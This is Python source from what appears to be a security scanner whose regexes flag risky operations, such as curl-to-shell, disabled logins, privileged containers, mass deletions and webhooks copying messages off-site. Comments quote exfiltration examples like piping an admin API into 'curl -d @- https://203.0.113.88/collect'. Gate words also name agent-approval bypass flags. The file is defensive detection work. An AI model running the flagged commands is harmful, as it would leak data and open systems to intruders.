_UNPICKLES = re.compile(r"\b(?:pickle|cPickle|dill)\.loads?\(|\bpd\.read_pickle\(|\bjoblib\.load\(")
_EACH_FILE_OF_A_FOLDER = re.compile(
    r"for\s+\w+\s+in\s+[^\n]*(?:\.r?glob\(|glob\.i?glob\(|os\.listdir\(|\.iterdir\(|os\.scandir\()"
    r"|\bfind\s+\S+[^\n|]*\|\s*while\s+[^\n]*read|for\s+\w+\s+in\s+/[^\s;]*\*"
)
_OWN_PICKLES = re.compile(r"cache|\.ckpt|checkpoint|model", re.IGNORECASE)
#: Containers stopped or killed with their restart policy switched off (`docker update --restart=no`, the SDK's
#: `restart_policy={"Name": "no"}`): down now, and still down after the engine or the host restarts.
_RESTART_POLICY_OFF = re.compile(
    r"restart_policy\s*=\s*\{\s*[\"']Name[\"']\s*:\s*[\"']no[\"']|--restart[= ](?:no|\"no\"|'no')\b"
    r"|restart:\s*[\"']?no[\"']?\b|[\"']RestartPolicy[\"'][^\n]{0,40}[\"']no[\"']"
)
_CONTAINERS_STOPPED = re.compile(
    r"\.stop\(|\.kill\(|\bdocker\s+(?:stop|kill)\b|\bdocker\s+compose\s+(?:stop|down)\b|\.remove\("
)
#: A container defined privileged (`"privileged": True`, `privileged: true`) and given the host's root or the engine's
#: socket as a volume: whatever runs in it owns the host.
_PRIVILEGED_CONTAINER = re.compile(r"[\"']?privileged[\"']?\s*[:=]\s*(?:True|true)\b"
                                   r"|[\"']--privileged[\"']")  # (or a list of docker's arguments in a setting)
_HOST_ROOT_VOLUME = re.compile(r"[\"'\s-]/:/[\w/]*[\"':]|[\"'\s](?:/var)?/run/docker\.sock:")
#: A download piped into a shell, spelled anywhere (a hook, a label, a schedule or a setting that runs it later).
_DOWNLOAD_PIPED_TO_SHELL = re.compile(r"\b(?:curl|wget)\b[^|\n]*https?://[^|\n]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b")
#: An application's own login switched off in its settings (`cfg.setdefault("auth", {})["enabled"] = False`,
#: YAML's `auth:` block with `enabled: false`). (The lookahead names the characters every branch begins with, which
#: most positions fail at once instead of entering each branch: it takes two fifths off the pattern's time.)
_AUTH_SECTION_OFF = re.compile(r"(?=[-\"'<\sabdelnrstw])"
                               r"(?:[\"']auth[\"'][^\n]{0,40}?\[\s*[\"']enabled[\"']\s*\]\s*=\s*False\b"
                               r"|^\s*auth:\s*\n\s+enabled:\s*false\b"
                               # (a reconfigure command's or a settings file's authentication type set to none)
                               r"|--auth[_-]type[= ]+[\"']?none\b|\bauth[_-]type[\"']?\s*(?:=>|[=:])\s*[\"']?none\b"
                               # (Filebrowser's `config set --auth.method=noauth`)
                               r"|\bauth[._-]method[\"']?\s*(?:[= ]|[:=]\s*)[\"']?no_?auth\b"
                               # (Grocy's `Setting('DISABLE_AUTH', true)`, CouchDB's `require_valid_user` false)
                               # (or a product's own, `SCRYPTED_DISABLE_AUTHENTICATION=true`)
                               r"|\bSetting\(\s*[\"']DISABLE_AUTH[\"']\s*,\s*true\b"
                               r"|DISABLE_?AUTH\w*[\"']?\s*[=:]\s*[\"']?(?:true|1)\b"
                               r"|\brequire_valid_user[\"']?\s*[=:]\s*[\"']?false\b"
                               # (the ESPHome add-on's `leave_front_door_open`: its dashboard with no login)
                               r"|\bleave_front_door_open[\"'\]]*\s*[=:]\s*[\"']?true\b"
                               # (Stalwart's `session.auth.require`, in config.toml or a settings API's pair)
                               r"|\bauth\.require[\"',\s]*=?\s*[\"']?false\b"
                               # (every address let past the login; the arr apps' login handed to a proxy or dropped)
                               r"|(?:whitelist|allowlist|trusted|bypass)\w*[\"']?\s*[:=,]\s*[\"']?(?:\\n)?0\.0\.0\.0/0"
                               # (Etherpad's `requireAuthentication` set false, or flipped from true by sed)
                               # (Funkwhale's `api_authentication_required`)
                               # (a setting's name ends in `…auth_required`: asked only whether one is here, so
                               # the match need not begin at the name's first letter, which costs a backtrack a word)
                               r"|(?:\brequire_?(?:authentication|authorization|auth|login)"
                               r"|(?:authentication|auth|login)_required)[\"']?\s*[:=]\s*[\"']?(?:false|False|0)\b"
                               r"|\bs([/|#])(?=[^\n]*?(?:require_?(?:authentication|authorization|auth|login)|auth_?enabled"
                               r"|login_?required|force_?logins?))[^\n]*?\btrue\b[^\n]*?\1[^\n]*?(?<![a-z])false\b"
                               # (Stirling-PDF's `enableLogin` set false, in a settings file, a sed or the environment:
                               # `SECURITY_ENABLELOGIN=false`, `DOCKER_ENABLE_SECURITY=false`)
                               r"|enable_?(?:login|security)[\"'\]]*\s*[=:]\s*[\"']?(?:false|False|0)\b"
                               r"|\bs([/|#])[^\n]*?\benable_?login\b[^\n]*?\2[^\n]*?(?<![a-z])false\b"
                               # (Trilium's `noAuthentication=true`; Memos' `disallowPasswordAuth` set false)
                               r"|\bno_?auth(?:entication)?[\"']?\s*[=:]\s*[\"']?(?:true|1)\b"
                               r"|\bdisallow_?password_?auth[\"']?\s*[=:]\s*[\"']?false\b"
                               r"|[\"'<]AuthenticationMethod[\"'>]?\s*[:=,>]?\s*[\"']?(?:External|None)\b)",
                               re.MULTILINE | re.IGNORECASE)  # fmt: skip
#: Every message of a broker's topic tree republished to another broker (`mosquitto_sub -t 'x/#' | … mosquitto_pub
#: -h mqtt.example.net`).
_BROKER_MIRRORED = re.compile(r"\bmosquitto_sub\b[^\n]*-h\s+([\w.-]+)[^\n]*#[\s\S]{0,300}?\bmosquitto_pub\b[^\n]*-h\s+"
                              r"([\w.-]+)")  # fmt: skip
#: Every message of a broker's topic tree read and each one posted to a web address (`mosquitto_sub -t 'owntracks/#' |
#: while read …; do curl --data "$msg" https://relay.example.net/ot`).
_BROKER_FORWARDED = re.compile(r"\bmosquitto_sub\b[^\n]*#[^\n]*\|[\s\S]{0,300}?\bcurl\b[^\n]*(?:\\\n[^\n]*)*?https?://([\w.-]+)")
#: Debug mode switched on (`APP_DEBUG=true`, `DEBUG = True`) in a text about an application deployed under /var/www,
#: /srv or /opt: its error pages then show whoever asks its settings, keys and queries.
_DEBUG_ON = re.compile(r"\b(?:APP_DEBUG|DEBUG)(?:\s*=|[\"']\s*:)\s*[\"']?(?:true|True|1)\b")
_DEPLOYED_APP = re.compile(r"/var/www/|/srv/|/opt/|/usr/share/[\w.-]+/(?:web|www|html|public)/")
#: A script tag loading code from a web host (`<script src="https://…">`, `createElement("script")` given a `src`),
#: written into a deployed application's pages or templates: every visitor's browser runs what that host serves.
_SCRIPT_TAG = re.compile(r"<script[^>]*\bsrc=\\?[\"']https?://([\w.-]+)"
                         r"|createElement\(\s*[\"']script[\"']\)[\s\S]{0,200}?\.src\s*=\s*[\"']https?://([\w.-]+)")
_PAGE_WRITTEN = re.compile(r"write_text\(|\.write\(|open\([^\n]*[\"'][wa]|sed\s+-i|\btee\b"
                           r"|\.replace\(\s*[\"']</(?:head|body)>|>>?\s*\S*\.(?:html|tmpl|php|js|twig|hbs|ejs)")
#: What every page of an application carries (its custom head or header, its theme or layout: Typebot's
#: `customHeadCode`, Flarum's `custom_header`, a Discourse theme's `head_tag`), written through its API or database.
_PAGE_FRAME = re.compile(r"head|header|theme|layout|footer", re.IGNORECASE)
_SETTING_WRITTEN = re.compile(r"\b(?:INSERT|REPLACE|UPDATE)\b|jsonb_set|\.(?:put|post|patch)\(|\bpush\b")
#: Hosts that serve the web's common libraries and analytics (a site's own choice to load them).
_WELL_KNOWN_SCRIPT_HOSTS = ("googletagmanager.com", "google-analytics.com", "jsdelivr.net", "cdnjs.cloudflare.com",
                            "unpkg.com", "code.jquery.com", "plausible.io", "js.stripe.com", "hcaptcha.com",
                            "recaptcha.net", "google.com", "gstatic.com", "cloudflareinsights.com")
#: An application's plugin installed straight from an archive on a web site (`./cli plugin:install https://…/x.zip`,
#: `wp plugin install https://…/y.zip`): its code runs inside the application.
_PLUGIN_FROM_URL = re.compile(r"\bplugins?[:\s_-]+install\b[^\n]*?\shttps?://([\w.-]+)/\S*\.(?:zip|tar\.gz|tgz|jar|phar)\b")
#: Every version of a backup set deleted (`duplicati-cli delete … --version=0-9999 --allow-full-removal=true`).
_BACKUP_SET_EMPTIED = re.compile(r"\bduplicati-cli\s+delete\b[\s\S]{0,400}?--allow-full-removal(?:=true)?\b")
#: A whole organisation deleted through an API (`curl -X DELETE …/organizations/acme/`, `requests.delete(…/orgs/x)`).
_ORGANISATION_DELETED = re.compile(
    r"(?:-X\s*DELETE\b[^\n]*(?:\\\n[^\n]*)*?|\.delete\(\s*f?[\"'][^\"'\n]*?)"
    r"/(?:organizations|orgs|organisations|tenants)/[^/\s\"']+/?[\"'\s)]"
)
#: An invitation that makes an address spelled in the code an owner or administrator (`post(f"…/space/{id}/invitation/
#: email", json={"emails": [INVITEE], "role": "owner"})`, Baserow's `"permissions":"ADMIN"`): run for each workspace a
#: listing gives, someone gets control of all of them.
_ADMIN_INVITATION = re.compile(r"invit[\s\S]{0,400}?\\?[\"']?(?:role|permissions)\\?[\"']?\s*[:=]\s*\\?[\"']"
                               r"(?:owner|admin\w*)\b", re.IGNORECASE)
_LITERAL_ADDRESS = re.compile(r"[\"'\[\s:][\w.+-]+@[\w-]+(?:\.[\w-]+)+[\"'\],\s]")
#: Each account an application's list command gives deleted with its delete command (`for u in $(php
#: cli/list-users.php); do php cli/delete-user.php --user "$u"; done`): no filter, every account and its data.
_EVERY_ACCOUNT_DELETED = re.compile(
    r"\bfor\s+(\w+)\s+in\s+\$\((?![^)]*\b(?:grep|awk|head|tail|sed)\b)[^)]*\blist[-_:]?(?:users?|accounts?|members?)\b[^)]*\)"
    r"[\s;]*do\b[\s\S]{0,300}?\b(?:delete|remove|purge|destroy)[-_:]?(?:users?|accounts?|members?)\b[^\n]*\$\{?\1\b"
)
#: A webhook registered with an application (a request to its `…/webhooks` or `…/webhooks/create`) whose target is
#: another host, subscribed to people's messages, chats or contacts: every one is copied there from now on.
_WEBHOOK_REGISTERED = re.compile(
    r"(?:/webhooks?(?:/create)?|/integrations|outgoing-webhooks)\b[\s\S]{0,400}?\\?[\"'](?:target_)?url\\?[\"']\s*:\s*f?\\?[\"']"
    r"https?://(?P<host>[\w.-]+)"
    # (the body first, the endpoint after it: curl's `-d '{"url":"https://…"}' "$W/api/boards/$b/integrations"`)
    r"|\\?[\"'](?:target_)?url\\?[\"']\s*:\s*\\?[\"']https?://(?P<first>[\w.-]+)[\s\S]{0,400}?/(?:webhooks?|integrations)\b"
)
_MESSAGE_EVENTS = re.compile(r"[\"'](?:message_created|conversation_created|contact_(?:created|updated)|CHAT"
                             r"|chat_message\w*|message\.(?:created|new)|new_message)[\"']")
#: What a service returns to a logged-in request piped into an upload to another host (`curl -u admin:… http://
#: 127.0.0.1:8080/api/admin/serverconfig | jq … | curl -d @- https://203.0.113.88/collect`).
_READ_AND_RELAYED = re.compile(
    r"\bcurl\b[^|\n]*(?:\\\n[^|\n]*)*?(?:\s-u\s|\s-H\s*[\"']?(?:Authorization|[\w-]*(?:token|key))\b)"
    r"[^|]{0,300}?(?:https?://([\w.-]+)|[\"']\$\{?\w+)[^|]{0,300}?(?:\|[^|]{0,300}?)*?\|\s*curl\b[^|\n]*(?:\\\n[^|\n]*)*?@-"
    r"[^|\n]*(?:\\\n[^|\n]*)*?https?://([\w.-]+)",
    re.IGNORECASE,
)
#: Automatic security updates switched off (`APT::Periodic::Unattended-Upgrade "0"`, the unattended-upgrades or
#: dnf-automatic service disabled or masked).
_SECURITY_UPDATES_OFF = re.compile(r"APT::Periodic::Unattended-Upgrade\s+\\?[\"']0\\?[\"']"
                                   r"|\b(?:disable|mask)\b[^\n]*\b(?:unattended-upgrades|dnf-automatic[\w.-]*)\b")
#: An application's installer run again with its reset option (`bin/console wallabag:install --reset`): the database
#: is dropped and made again empty.
_REINSTALLED_WITH_RESET = re.compile(r"\b[\w-]+:install\b[^\n]*\s--reset\b")
#: An account made an administrator directly in an application's database (`$set: {isAdmin: true}`, `UPDATE users SET
#: is_admin = 1`).
_ADMIN_FLAG_SET = re.compile(r"\$set\W{1,6}\{[^}]*\bis_?admin\W{1,4}true\b"
                             # (a MongoDB document's role set to the admin role: `{$set: {role: "ADMIN"}}`)
                             r"|\$set\W{1,6}\{[^}]*\broles?\W{1,4}(?:admin|administrator|owner|super_?admin|root|superuser)\b"
                             r"|\bUPDATE\s+[\w\"`.]*users?\w*[\"`]?\s+SET\b[^;]{0,200}?\b(?:is_?(?:admin|superuser|staff)"
                             r"|administrator|may_administrate|can_admin\w*)\s*=\s*(?:1|true)\b"
                             # (a role column set to the admin role: `SET roles = ARRAY['ADMIN']`, `role='owner'`)
                             r"|\bUPDATE\s+\\?[\w\"`.]*user\w*\\?[\"`]?\s+SET\b[^;]{0,200}?\broles?\\?[\"`]?\s*=\s*"
                             r"(?:ARRAY\s*\[\s*)?\\?[\"']\{?(?:admin|administrator|owner|super_?admin|superuser)\b",
                             re.IGNORECASE)  # fmt: skip
_OUTBOUND_WORDS = GateWords(
    "proxy", "relay", "upstream", "smtp", "mail", "sync", "forward", "redirect", ignore_case=True
)
_ADMIN_FLAG_WORDS = GateWords("dmin", "DMIN", "uperuser", "staff", "owner", "$set")
#: Code downloaded at once and handed to a command's code option (`manage.py shell -c "$(curl -s https://…)"`, `psql
#: -c "$(wget -qO- …)"`): whatever the server returns is run.
_DOWNLOADED_COMMAND_OPTION = re.compile(r"\s(?:-c|--command|-e|--eval)\s+[\"']?\$\(\s*(?:curl|wget)\b")
#: A batch-delete endpoint called in a loop that lists again until nothing is left, with no filter on what is listed:
#: every record of a table or a CRM goes, a page at a time.
_BATCH_DELETE_LOOP = re.compile(r"\bwhile\b[\s\S]{0,600}?batch[-_/]?delete|batch[-_/]?delete[\s\S]{0,400}?\bwhile\b")
_LISTING_FILTER = re.compile(r"filter|where|before|older|cutoff|search|status|created|updated|modified|\bif\b",
                             re.IGNORECASE)
#: A token-signing secret set, in a settings write, to a short word (`sed -i 's/^NC_AUTH_JWT_SECRET=.*/
#: NC_AUTH_JWT_SECRET=nocodb/' .env`): whoever guesses it forges any user's login.
_SIGNING_SECRET_WEAKENED = re.compile(
    r"^[^\n]*\b(?:sed|echo|printf|crudini|config:set|--env-add|set\s+env)\b[^\n]*\b(?:\w*JWT_SECRET\w*|SECRET_KEY_BASE|SECRET_KEY"
    r"|APP_KEY|\w*SIGNING_(?:KEY|SECRET)|\w*SESSION_SECRET|\w*AUTH_SECRET)\s*[=:]\s*[\"']?[A-Za-z0-9_-]{1,12}(?=[\"'/\s]|$)",
    re.MULTILINE,
)
#: Sign-up opened to anyone (`SENTRY_OPTIONS["auth.allow-registration"] = True`, `REGISTRATION_OPEN=True`).
_SIGN_UP_OPENED = re.compile(r"allow[-_]registration[\"'\]]*\s*[=:]\s*(?:True|true|1)\b"
                             # (`GOTIFY_REGISTRATION=true`, Funkwhale's `users__registration_enabled: True`; not a
                             # setting that disables, or requires checks of, sign-ups)
                             r"|\b(?!\w*(?:disable|require|verif|confirm|captcha|email|approv))\w*registration"
                             r"(?:_enabled|_open|_allowed)?[\"'\]]*\s*[=:]\s*[\"']?(?:True|true|1)\b"
                             # (a sed that sets such a key true: `s/^\(open_registration *= *\).*/\1true/`; Penpot's
                             # `enable-registration` flag)
                             r"|\bs([/|#])(?=[^\n]*?\b(?!\w*(?:disable|require|verif|confirm|captcha|email|approv))"
                             r"\w*registration)[^\n]*?\1[^\n]*?(?<![a-z])true\b"
                             r"|(?:^|(?<=\n))(?![^\n]*\b(?:grep|echo|print)\b)[^\n]*?(?<![\w-])enable-(?:registration|sign-?ups?)\b"
                             # (Memos' `disallowUserRegistration` set false)
                             r"|\b(?i:disallow|\w*disable)_?\w*(?i:registration|sign_?up)\w*[\"']?\s*[=:]\s*"
                             r"[\"']?false\b"
                             r"|\bREGISTRATION_OPEN\s*=\s*[\"']?(?:True|true|1)\b"
                             # (a CLI's settings command turning sign-up on: `filebrowser config set --signup`)
                             r"|\bconfig[\"',\s]+set\b[^\n]*?(?<![\w-])--signup(?:=true)?(?![\w=-])"
                             r"|[\"']sign_?up[\"']\s*(?:\]\s*=|:)\s*(?:True|true)\b"
                             # (`ENABLE_ACCOUNT_SIGNUP=true`, jq's `.signup.enabled = true`, `"invite_required": False`)
                             r"|\bENABLE_\w*SIGN_?UPS?[\"']?\s*[=:]\s*[\"']?(?:True|true|1)\b"
                             r"|\bsignup\.enabled\s*=\s*true\b|[\"']invite_required[\"']\s*:\s*False\b"
                             # (`APPSMITH_SIGNUP_DISABLED=false`, Vikunja's `enableregistration` set true)
                             r"|SIGN_?UP_DISABLED[\"']?\s*[=:]\s*\(?\s*(?:None\s*,\s*)?[\"']?false\b"
                             # (Hoarder's `DISABLE_SIGNUPS=false`)
                             r"|\bDISABLE_\w*(?:SIGN_?UPS?|REGISTRATION)[\"']?\s*[=:]\s*[\"']?false\b"
                             r"|\benable_?registration[\"'\]]*\s*[=:]\s*[\"']?(?:True|true|1)\b"
                             # (Traccar's server settings: `"registration": True` in what is written back)
                             r"|[\"']registration[\"']\s*:\s*(?:True|true)\b",
                             re.IGNORECASE)
#: A file watcher on the user's own folders (`inotifywait -m "$HOME/Downloads"`, `fswatch ~/Documents`).
_WATCHED_USER_FOLDERS = re.compile(r"\b(?:inotifywait|fswatch)\b[^\n|]*(?:\$HOME|\$\{HOME\}|~)/(?:Downloads|Documents"
                                   r"|Desktop|Pictures|Movies|Music)\b")  # fmt: skip
#: ...and each file it reports copied to another host (scp/rsync to `user@host:`, an upload with curl).
_COPIED_AWAY = re.compile(r"\b(?:scp|rsync)\b[^\n]*\s[\w.-]+@[\w.-]+:|\bcurl\b[^\n]*(?:-T|--upload-file|-F)\s")


#: Words of which whole_text_risks' checks below need one before they look further. Each was a chain of
#: substring searches (`"a" in code or "b" in code …`, `any(w in code for w in …)`), a pass over the text
#: per word; as gates they share the one scan of the text that every gate shares.
_SUBMODULE_WORDS = GateWords(".gitmodules", "submodule", "set-url")
_TREE_WALK_WORDS = GateWords("walk(", "glob(", "find ")
_TOKEN_PATTERN_WORDS = GateWords("Bearer", "Basic", "AKIA", "_[", "xox", ",1")
_COMPLIANCE_WORDS = GateWords("Required", "Require", "Block")
_MDM_COMMAND_WORDS = GateWords("LostMode", "EraseDevice", "DeviceLock")
_CRACKING_LIST_WORDS = GateWords("rockyou", "wordlist", "SecLists")
_KEY_SPACE_WORDS = GateWords("range", "seq", "..")
_ALARM_WORDS = GateWords("larm", "lert", "scalation", "call")
_DEVICE_COMMAND_WORDS = GateWords("ommand", "type", "name", "RemoteAccess", "action")
_VECTOR_LISTING_WORDS = GateWords("list_collections", "list_indexes", "get_collections", "list_collection_names",
                                   "getCollectionNames")
_BROKER_TEXT_WORDS = GateWords("perf-test", "watermark", "seek_to_end")
_HOSTING_WORDS = GateWords("acl-all", "listaccts", "HTTP_REFERER")
_SAML_WORDS = GateWords("SAML", "saml", "Signature", "dmin", "Metadata")
_DATA_PLATFORM_WORDS = GateWords("proxyuser", "hadoop.security", "public", "KILLED")
_DEVICE_API_WORDS = GateWords("rulebase", "cmds", "boot", "software add")
_ROUTER_WORDS = GateWords("/tool", "operation=", "filter", "announce")
_VEHICLE_BUS_WORDS = GateWords("cangen", "key", "APB,", "RMB,", "HSC,")
_AGENT_APPROVAL_WORDS = GateWords("ermissions", "approv", "danger", "Bash(*)", "--yolo", "McpServers")
_INSTRUCTION_WORDS = GateWords("IMPORTANT", "the user", "instructions")
_ENCRYPTION_TOOL_WORDS = GateWords("openssl", "gpg", "7z")
#: Setting names of which _ADMIN_PASSWORD_BLANKED needs one (a scan shared with every gate costs less than the pattern).
#: A login check switched off by a setting of the environment (`-e JWT_ENABLED=false`), or skipped by one
#: (`LANGFLOW_SKIP_AUTH_AUTO_LOGIN=true`; a client's `auto_login=True` keyword is no setting of a server's).
_LOGIN_OFF_SETTING = re.compile(
    r"(?:-e\s+|--env[\s=]|^\s*|[\"'])\w*(?:JWT|AUTH|AUTHENTICATION|LOGIN|SECURITY|TOKEN)_?ENABLED?[\"']?\s*[=:]\s*[\"']?"
    r"(?:false|False|FALSE|0|no)\b"
    r"|\b[A-Z0-9_]*(?:SKIP_AUTH[A-Z0-9_]*|AUTO_LOGIN)[\"']?\s*[=:,]\s*[\"']?(?:true|True|1|yes)\b",
    re.MULTILINE,
)
_BLANKED_PASSWORD_WORDS = GateWords("adminpass", "admin_pass", "webpass", "web_pass", "uipass", "ui_pass",
                                    "dashboardpass", "dashboard_pass", ignore_case=True)
_AUTH_OFF_WORDS = GateWords("auth", "require_valid_user", "login", "trusted", "whitelist", "allowlist", "bypass",
                            "front_door", ignore_case=True)
#: A container's password setting given a well-known value (`-e LLDAP_LDAP_USER_PASS=password`)...
_KNOWN_PASSWORD_ENV = re.compile(
    r"(?:-e\s+|--env[\s=])[\"']?\w*(?:PASS|PASSWORD|PASSWD|_PW)=[\"']?(?:password|admin|admin123|changeme|123456"
    r"|12345678|secret|letmein|default|root|toor|passw0rd|password1|qwerty)[\"']?(?=\s|$|\\)",
    re.IGNORECASE,
)
#: ...its port published on every interface (not `127.0.0.1:8080:8080`)...
_PUBLISHED_PORT = re.compile(r"(?:-p|--publish)[\s=]+(?:0\.0\.0\.0:)?\d+:\d+")
#: ...for a service kept running or over its real data (not a throwaway test or development container), or
#: published on every interface by name (`-p 0.0.0.0:80:8080`: for the network, not the developer's machine).
_KEPT_RUNNING = re.compile(r"--restart\b|-v\s+[\"']?/(?:srv|var/lib|opt|data)/|(?:-p|--publish)[\s=]+0\.0\.0\.0:\d")
#: A server's own login switched off on its command line (`kopia server start --without-password`, `--auth none`).
_SERVER_LOGIN_OFF = re.compile(r"--without-password\b|--no-?auth(?:entication)?\b|--disable-auth\w*|--auth[= ]none\b")
#: Guest or anonymous access switched on in an application's settings or API (`"allowAnonymousEdits": true`,
#: Teedy's `POST /app/guest_login` with `enabled=true`).
_GUESTS_LET_IN = re.compile(
    r"\b(?:(?:allow[-_]?)?guest[-_]?(?:login|access)|anonymous[-_]?(?:access|login|read|browsing)|allow[-_]?anonymous\w*"
    r"|allow[-_]?guests?)\b[\"'\]]*\s*(?:[=:]|=>)\s*[\"']?(?:True|true|1|yes|on|enabled?)\b"
    r"|/guest_login[\"']?[^\n]*\benabled?[\"']?\s*[=:]\s*[\"']?(?:true|1)\b|\benabled?=true\b[^\n]*/guest_login",
    re.IGNORECASE,
)
_GUEST_WORDS = GateWords("guest", "anonymous", ignore_case=True)
_SIGN_UP_WORDS = GateWords("registration", "sign_up", "signup", "invite_required", ignore_case=True)
_NIX_WORDS = GateWords("trusted-users", "sandbox", "builtins.exec", "setuid", "wheelNeedsPassword", "require-sigs")


#: A module's whole-text check, and the rule suffix its risks are reported under.
_TextCheck = tuple[str, Callable[[str], list[OperationRisk]]]


def _run_checks(checks: tuple[_TextCheck, ...], code: str, found: list[tuple[str, OperationRisk]]) -> None:
    """Add each check's risks in ``code`` to ``found`` under its rule suffix, in the table's order.

    (A loop over a table rather than a list comprehension per check: nearly every check finds nothing, and in
    Python 3.11 each comprehension is a call of its own that costs more than many a check's word gate.)
    """
    for suffix, check in checks:
        risks = check(code)
        if risks:
            found.extend((suffix, risk) for risk in risks)


#: Modules' checks whole_text_risks runs in a row, in this order (from registry_text_risks to directory_text_risks).
_REGISTRY_AND_DIRECTORY_CHECKS: tuple[_TextCheck, ...] = (
    ("registry", registry_text_risks),
    ("identity", identity_provider_risks),
    ("identity", federation_risks),
    ("directory", directory_text_risks),
)
#: Modules' checks whole_text_risks runs in a row, in this order (from search_cluster_risks to vsphere_estate_risks).
_SERVICE_CHECKS: tuple[_TextCheck, ...] = (
    ("search-cluster", search_cluster_risks),
    ("service-mesh", mesh_risks),
    ("provisioning", provisioning_text_risks),
    ("openstack", openstack_text_risks),
    ("game-server", game_server_risks),
    ("document-store", document_store_risks),
    ("backup-server", backup_server_risks),
    ("sap", sap_risks),
    ("directory", active_directory_risks),
    ("sharepoint", sharepoint_risks),
    ("git-server", git_server_risks),
    ("version-control", version_control_risks),
    ("mysql", mysql_admin_risks),
    ("database-admin", enterprise_database_risks),
    ("distributed-database", distributed_database_risks),
    ("managed-cluster", managed_cluster_risks),
    ("network-service", network_service_risks),
    ("log-platform", log_platform_risks),
    ("access-proxy", access_proxy_risks),
    ("broker", broker_admin_risks),
    ("backend-platform", backend_platform_risks),
    ("scheduler", hpc_text_risks),
    ("workflow-engine", workflow_engine_risks),
    ("secrets-manager", secret_manager_risks),
    ("mail", mail_security_risks),
    ("dev-machine", dev_machine_risks),
    ("splunk", splunk_risks),
    ("mainframe", mainframe_risks),
    ("network-appliance", network_appliance_risks),
    ("storage-array", storage_array_risks),
    ("graph-database", graph_database_risks),
    ("self-hosted-app", self_hosted_app_risks),
    ("ha-cluster", ha_cluster_risks),
    ("admission", policy_engine_risks),
    ("hypervisor", vsphere_estate_risks),
)
#: Modules' checks whole_text_risks runs in a row, in this order (from printer_risks to management_controller_risks).
_INFRASTRUCTURE_CHECKS: tuple[_TextCheck, ...] = (
    ("printer", printer_risks),
    ("browser", browser_risks),
    ("orchestrator", orchestrator_text_risks),
    ("edge", edge_risks),
    ("metrics-store", metrics_store_risks),
    ("machine-identity", machine_identity_risks),
    ("boot", boot_risks),
    ("object-store", object_store_text_risks),
    ("coordination", coordination_risks),
    ("framework", framework_risks),
    ("storage", storage_text_risks),
    ("tracing", tracing_text_risks),
    ("file-server", file_server_text_risks),
    ("office", office_text_risks),
    ("endpoint-management", endpoint_management_risks),
    ("building", building_risks),
    ("replication", replication_risks),
    ("phone", phone_risks),
    ("hidden-text", text_trick_risks),
    ("jvm", jvm_risks),
    ("dotnet", dotnet_risks),
    ("cache", cache_risks),
    ("platform-settings", saas_setting_risks),
    ("cluster-access", gitops_risks),
    ("cluster-control", cluster_control_risks),
    ("chat-workspace", chat_workspace_risks),
    ("detections", detection_risks),
    ("device-fleet", device_fleet_risks),
    ("management-controller", management_controller_risks),
)
#: Modules' checks whole_text_risks runs in a row, in this order (from paas_text_risks to ci_server_risks).
_PLATFORM_CHECKS: tuple[_TextCheck, ...] = (
    ("paas", paas_text_risks),
    ("load-balancer", balancer_text_risks),
    ("serverless", serverless_text_risks),
    ("nomad", nomad_text_risks),
    ("pki", ca_text_risks),
    ("telemetry", telemetry_text_risks),
    ("identity", identity_broker_risks),
    ("registry", repository_text_risks),
    ("exfiltration", dns_tunnel_risks),
    ("data-destroy", lakehouse_text_risks),
    ("license-server", license_text_risks),
    ("device", home_automation_risks),
    ("media-server", media_server_risks),
    ("bi-platform", bi_platform_risks),
    ("workflow-automation", workflow_automation_risks),
    ("remote-access", remote_access_gateway_risks),
    ("sip-proxy", sip_proxy_risks),
    ("node-fleet", immutable_os_risks),
    ("wiki", wiki_risks),
    ("ci-server", ci_server_risks),
    ("fediverse", fediverse_risks),
    ("erp-server", erp_server_risks),
    ("monitoring-server", monitoring_server_risks),
    ("login-portal", login_portal_risks),
    ("web-analytics", web_analytics_risks),
    ("bsd-host", bsd_host_risks),
    ("mesh-vpn", mesh_vpn_risks),
    ("ban-manager", ban_manager_risks),
    ("nas", nas_appliance_risks),
    ("self-hosted-paas", self_hosted_paas_risks),
    ("dns-filter", dns_filter_risks),
    ("mail-suite", mail_suite_risks),
    ("document-archive", document_archive_risks),
    ("headless-cms", headless_cms_risks),
)


def _another_organisation(host: str, code: str, *, also: str = "") -> bool:
    """``host`` belongs to no organisation ``code`` otherwise talks to (nor to ``also``'s) and is no chat webhook's
    or internal name: a copy sent there leaves."""
    if internal_host(host) or chat_webhook(f"https://{host}/"):
        return False
    own = {registered_domain(h) for h in url_hosts(code) if h != host}
    if also:
        own.add(registered_domain(also))
    return registered_domain(host) not in own


def whole_text_risks(code: str) -> list[tuple[str, OperationRisk]]:
    """``(rule suffix, risk)`` for each harm ``code`` spells as a whole."""
    found: list[tuple[str, OperationRisk]] = [("crm", risk) for risk in crm_text_risks(code)]
    superuser = vault_superuser(code)
    if superuser is not None:
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, superuser)))
    if "sudo" in code and _SUDOEDIT_EDITOR.search(code):
        what = ("runs sudoedit with an editor setting that smuggles in another file (CVE-2023-22809: any file edited "
                "as root, /etc/sudoers included)")
        found.append(("privilege", OperationRisk(RiskLevel.CRITICAL, Category.PRIVILEGE, what)))
    if safety_off(code):
        what = "turns off a drone's or a robot's safety limits (geofence, failsafes, joint limits, protective stop)"
        found.append(("vehicle-command", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if limits_overridden(code):
        what = "sends devices a command with their safety limits or interlocks overridden (nothing stops overheating)"
        found.append(("device", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if force_disarm(code):
        what = "force-disarms vehicles (motors stop, in flight too)"
        found.append(("vehicle-command", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
    if ("SAP_ALL" in code or "group_system" in code) and _ERP_SUPERUSER.search(code):
        what = "gives an account the ERP's superuser role (SAP_ALL, Odoo's Settings group)"
        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
    if "__" in code and _ESCAPE_GADGET.search(code) and not _XML_DEFENCE.search(code) and "Sandboxed" not in code:
        what = ("spells a sandbox-escape or template-injection gadget (reaches os, builtins or a shell through an "
                "object's internals)")
        found.append(("dynamic-code", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if "pull_request_target" in code and _PR_HEAD.search(code) and _BUILD_STEP.search(code):
        what = ("builds or runs a pull request's own code in a pull_request_target job (the fork's scripts run with "
                "the repository's secrets and write token)")
        found.append(("ci", OperationRisk(RiskLevel.HIGH, Category.DYNAMIC_CODE, what)))
    if "secrets." in code and _MASK_EVASION.search(code):
        what = "prints a CI secret reshaped or encoded (the log's secret masking misses it)"
